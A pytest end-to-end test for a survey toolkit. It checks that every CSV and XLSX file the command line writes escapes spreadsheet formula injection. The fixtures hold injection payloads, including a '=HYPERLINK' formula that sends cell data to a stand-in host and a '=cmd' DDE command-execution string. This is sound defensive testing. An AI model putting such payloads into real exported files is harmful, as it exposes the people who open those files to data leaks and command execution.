"""End to end: no CSV or XLSX file the command line writes holds a live spreadsheet formula.

A response file is built from the bundled sample whose open answers, free-text
meta columns (operating system, device fingerprint) and some respondent ids
begin with formula-leading text (``=``, ``+``, ``-``, ``@``, tab, carriage
return, ``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0``, ``@SUM(1+1)``), with a
copy of the questionnaire (and its report spec) whose labels, a question's
short label, the survey title and a headline title do too. The respondents
are otherwise the sample's. Every command that writes files runs on it (clean,
weight with CSV and XLSX data, crosstab to XLSX and CSV with a formula
``--title``, appendix, report); every ``.xlsx`` is opened with openpyxl and
every ``.csv`` with the csv module, and no cell may be a formula or text a
spreadsheet would evaluate (beginning with = + - @ tab or CR, unless a plain
number). With ``--no-escape-formulas`` the same scan finds such cells, which
shows that the scan can fail (issue 15).
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from survey_kit.cli import main

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "sample_data" / "japan_digital_services_2024_raw.csv"
QUESTIONNAIRE = ROOT / "questionnaires" / "japan_digital_services_2024.yaml"
SPEC = ROOT / "questionnaires" / "japan_digital_services_2024.report.yaml"
TARGETS = ROOT / "sample_data" / "japan_firm_population_targets.csv"

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"x")'
CMD = "=cmd|' /C calc'!A0"
#: open answers: formula-leading, and (most) with words so the gibberish rule keeps them
ANSWERS = [
    HYPERLINK, CMD, "@SUM(1+1)", "=1+1 cloud support please", "+1 more training please",
    "-2+3 better pricing", "@mention the vendor", "\t=1+1 tab first", "\r=1+1 cr first",
    "fine\r=HYPERLINK(\"http://x/\",\"row injected by a carriage return\")",
    "=1+1", "-", "+", "@",
]
TITLE = '=HYPERLINK("http://x/?"&A1,"title")'

_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _live(value) -> bool:
    """Text a spreadsheet would evaluate: formula-leading and not a plain number."""
    return (isinstance(value, str) and value.startswith(_TRIGGERS)
            and not _NUMBER.fullmatch(value))


def live_cells(folder: Path) -> list[str]:
    """Every formula cell, or cell of formula-leading text, of every XLSX and CSV in folder."""
    import openpyxl

    found = []
    for path in sorted(folder.rglob("*")):
        name = path.relative_to(folder)
        if path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            for ws in book.worksheets:
                for row in ws.iter_rows():
                    for c in row:
                        if c.data_type == "f" or (c.data_type == "s" and _live(c.value)):
                            found.append(f"{name} {ws.title}!{c.coordinate}: {c.value!r:.60}")
        elif path.suffix == ".csv":
            with path.open(encoding="utf-8-sig", newline="") as f:
                for i, row in enumerate(csv.reader(f), start=1):
                    found += [f"{name} row {i} field {j}: {v!r:.60}"
                              for j, v in enumerate(row, start=1) if _live(v)]
    return found


def spreadsheets(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.suffix in (".csv", ".xlsx"))


def _hostile_responses(path: Path) -> None:
    with SAMPLE.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    head, body = rows[0], rows[1:]
    col = {c: i for i, c in enumerate(head)}
    for i, row in enumerate(body):
        row[col["Q16"]] = ANSWERS[i % len(ANSWERS)]
        row[col["os"]] = "@SUM(1+1)" if i % 3 == 0 else row[col["os"]]
        if row[col["device_fingerprint"]]:        # unique as before: no new duplicates
            row[col["device_fingerprint"]] = f'=HYPERLINK("http://x/?{row[col["device_fingerprint"]]}")'
        rid = row[col["respondent_id"]]
        if rid[:1] in "abcdef":                   # by the id, so repeated ids stay repeated
            row[col["respondent_id"]] = "=" + rid
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([head] + body)


def _edit(text: str, old: str, new: str) -> str:
    assert old in text, old
    return text.replace(old, new)


def _hostile_questionnaire(folder: Path) -> Path:
    text = QUESTIONNAIRE.read_text(encoding="utf-8")
    for old, new in [
        ("targets: ../sample_data/japan_firm_population_targets.csv", f"targets: '{TARGETS}'"),
        ("  title: Use of Digital Services in Japanese Companies",
         "  title: '=HYPERLINK(\"http://x/?\"&A1,\"Use of digital services\")'"),
        ("    short: Sector\n", "    short: '+Sector'\n"),
        ("label: Manufacturing,", "label: '=HYPERLINK(\"http://x/?\"&A1,\"Manufacturing\")',"),
        ("label: Small (11-50),", "label: '@SUM(1+1) small',"),
        ("label: Less than 1%,", "label: '-1% or less',"),
    ]:
        text = _edit(text, old, new)
    path = folder / QUESTIONNAIRE.name
    path.write_text(text, encoding="utf-8")
    spec = _edit(SPEC.read_text(encoding="utf-8"),
                 "title: Share of revenue spent on digital services, by sector",
                 "title: '=cmd|'' /C calc''!A0'")
    (folder / SPEC.name).write_text(spec, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def inputs(tmp_path_factory) -> tuple[str, str]:
    folder = tmp_path_factory.mktemp("hostile_inputs")
    data = folder / "hostile.csv"
    _hostile_responses(data)
    return str(_hostile_questionnaire(folder)), str(data)


def _argv(command: str, q: str, data: str, out: Path) -> list[str]:
    crosstab = ["crosstab", q, data, "--rows", "sector", "--rows", "foreign_services",
                "--cols", "size_class", "--title", TITLE]
    return {
        "clean": ["clean", q, data, "--out", str(out)],
        "weight-csv": ["weight", q, data, "--data-format", "csv", "--out", str(out)],
        "weight-xlsx": ["weight", q, data, "--data-format", "xlsx", "--out", str(out)],
        "crosstab-xlsx": crosstab + ["--out", str(out / "table.xlsx")],
        "crosstab-csv": crosstab + ["--out", str(out / "table.csv")],
        "appendix": ["appendix", q, data, "--format", "xlsx", "--no-figures", "--out", str(out)],
        "report": ["report", q, data, "--format", "xlsx", "--quiet", "--out", str(out)],
    }[command]


COMMANDS = ["clean", "weight-csv", "weight-xlsx", "crosstab-xlsx", "crosstab-csv", "appendix",
            "report"]


def _run(command: str, inputs, out: Path, *extra: str, capsys) -> list[Path]:
    rc = main(_argv(command, *inputs, out) + list(extra))
    err = capsys.readouterr().err
    assert rc == 0, err
    written = spreadsheets(out)
    assert written, f"{command} wrote no CSV or XLSX file"
    return written


@pytest.mark.parametrize("command", COMMANDS)
def test_no_cell_a_spreadsheet_would_evaluate(command, inputs, tmp_path, capsys):
    _run(command, inputs, tmp_path / "out", capsys=capsys)
    assert live_cells(tmp_path / "out") == []


@pytest.mark.parametrize("command", COMMANDS)
def test_without_escaping_the_formulas_are_written(command, inputs, tmp_path, capsys):
    """--no-escape-formulas writes the text as is, and the scan above finds it."""
    _run(command, inputs, tmp_path / "out", "--no-escape-formulas", capsys=capsys)
    assert live_cells(tmp_path / "out")


def test_clean_keeps_the_answers_whole_behind_the_apostrophe(inputs, tmp_path, capsys):
    """Escaping adds one apostrophe and changes nothing else; ids stay distinct."""
    _run("clean", inputs, tmp_path, capsys=capsys)
    stem = Path(inputs[1]).stem
    with Path(inputs[1]).open(encoding="utf-8", newline="") as f:
        raw_ids = [r["respondent_id"] for r in csv.DictReader(f)]
    ids, answers = [], set()
    for name in ("kept", "excluded"):
        with (tmp_path / f"{stem}_{name}.csv").open(encoding="utf-8", newline="") as f:
            rows = list(csv.DictReader(f))
        ids += [r["_raw_id"] for r in rows]
        answers |= {r["comments"] for r in rows}
    assert sorted(ids) == sorted("'" + i if _live(i) else i for i in raw_ids)
    assert {"'" + a if _live(a) else a for a in ANSWERS} <= answers
